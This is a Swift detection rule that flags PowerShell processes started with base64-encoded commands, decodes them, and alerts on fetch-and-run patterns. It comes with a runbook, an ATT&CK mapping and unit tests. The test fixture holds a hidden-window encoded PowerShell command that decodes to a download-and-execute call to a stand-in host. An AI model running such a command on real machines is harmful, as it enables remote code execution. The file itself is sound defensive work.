import MargayKit

/// Finds processes of PowerShell whose command is base64 on its command line, and reads it.
struct EncodedPowerShell: Rule, Equatable {
  let id = "Osquery.EncodedPowerShell"
  let place: CodePlace? = .here()
  let logTypes = [Osquery.logType]
  let displayName: String? = "Encoded command of PowerShell"
  let severity = Severity.medium
  let description =
    "PowerShell was started with an encoded command that fetches and runs something, or hides its window."
  let reference =
    "https://learn.microsoft.com/powershell/module/microsoft.powershell.core/about/about_powershell_exe"
  let runbook =
    "1. Read the decoded command in the alert.\n2. Which process started it?\n3. Isolate the machine if nobody knows the command."
  let tags = ["Osquery", "Windows", "Execution"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0002:T1059.001"])]

  func matches(_ event: Event) -> Bool {
    guard event["action"] == "added", let command = command(event) else { return false }
    let text = Text(command)
    return ShellCommand.fetchesAndRuns(text) || text.lowercased().contains("frombase64string")
  }

  private func command(_ event: Event) -> String? {
    guard let line = event.text("columns.cmdline") else { return nil }
    let words = line.split(separator: " ").filter { !$0.isEmpty }
    guard
      words.contains(where: {
        $0.lowercased().contains("powershell") || $0.lowercased().contains("pwsh")
      })
    else { return nil }
    for (option, argument) in zip(words, words.dropFirst())
    where Self.isEncodedCommand(option.lowercased()) {
      return Base64.decodeText(argument.string)
    }
    return nil
  }

  /// PowerShell takes every beginning of a parameter's name that is unambiguous.
  private static func isEncodedCommand(_ option: Text) -> Bool {
    let name: Text = "-encodedcommand"
    return option.utf8Count >= 2 && name.hasPrefix(option) || option == "-ec"
  }

  func title(_ event: Event) -> String? {
    "Encoded command of PowerShell on \(event.shown("hostIdentifier"))"
  }

  func alertContext(_ event: Event) -> AlertContext { ["command": command(event)] }

  private static let log = TestLog(
    """
    {"name": "pack_windows_process_events", "hostIdentifier": "ws-7.example.com", "unixTime": 1772443620, "action": "added",
     "columns": {"cmdline": "powershell.exe -nop -w hidden -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AdABlAHMAdAApAA=="}}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "fetches and runs", matches: true, Self.log,
        title: "Encoded command of PowerShell on ws-7.example.com",
        context: ["command": "iex (iwr http://x.test)"]),
      RuleTest(
        "harmless command", matches: false,
        Self.log.with("columns.cmdline", "powershell.exe -EncodedCommand RwBlAHQALQBEAGEAdABlAA==")),
      RuleTest(
        "another program", matches: false,
        Self.log.with(
          "columns.cmdline",
          "tool -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AdABlAHMAdAApAA==")),
      RuleTest("process ended", matches: false, Self.log.with("action", "removed")),
    ]
  }
}
